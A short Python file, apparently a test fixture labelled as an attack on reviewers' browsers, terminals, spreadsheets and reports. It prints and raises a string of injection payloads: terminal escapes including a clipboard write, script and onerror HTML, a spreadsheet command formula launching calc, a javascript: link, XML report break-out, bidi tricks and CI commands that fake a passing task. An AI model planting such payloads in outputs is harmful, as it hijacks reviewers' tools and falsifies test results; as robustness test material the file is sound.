# /// attack
# title = "prints, raises and names itself with terminal escapes, markup, formulas, control characters and broken text"
# aim = "to run in the reviewer's browser, terminal or spreadsheet, or to break a report"
# refused = true
# ///
import os as _os
import sys

TEXT = (
    "\x1b[2J\x1b]0;planted\x07\x1b]52;c;aGk=\x07<script>alert('injected')</script><img src=x onerror=injected>"
    "\n=cmd|' /C calc'!A0\n+1\n@SUM(1)\n| a | b |\n```\n[x](javascript:injected)\n]]></failure></testcase>\x00\x08\x0b"
    "\u202eevil\u2066\ud800\ufffe\r\n::error::injected\n##vso[task.complete result=Succeeded;]\n"
)
sys.stdout.reconfigure(errors="surrogatepass")
print(TEXT)
getattr(_os, "wri" + "te")(1, b"\xff\xfe\x80 not utf-8 \xc0\xaf\n")
TEXT = TEXT.replace("\ud800", "")
failure = type(TEXT.replace("\x00", ""), (Exception,), {})


def double(x):
    raise failure(TEXT)


def total(step, times):
    raise ValueError(TEXT)


def spell(numbers):
    return [TEXT]


class Counter:
    def __init__(self, start):
        raise type("=1+1", (Exception,), {})("=1+1")
